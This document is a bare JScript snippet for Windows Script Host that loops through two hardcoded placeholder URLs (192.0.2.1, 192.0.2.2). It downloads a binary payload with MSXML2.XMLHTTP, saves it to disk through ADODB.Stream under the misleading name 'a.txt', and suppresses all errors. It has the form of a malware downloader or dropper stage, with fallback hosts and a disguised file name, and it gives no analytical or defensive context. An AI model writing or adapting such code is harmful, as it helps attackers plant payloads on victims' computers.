var u = "http://192.0.2.1/a*http://192.0.2.2/b".split("*");
for (var i = 0; i < u.length; i++) {
  try {
    var x = new ActiveXObject("MSXML2.XMLHTTP");
    x.open("GET", u[i], false);
    x.send();
    if (x.status == 200) {
      var f = new ActiveXObject("ADODB.Stream");
      f.open(); f.type = 1; f.write(x.responseBody); f.saveToFile("a.txt", 2); f.close();
      break;
    }
  } catch (e) { }
}
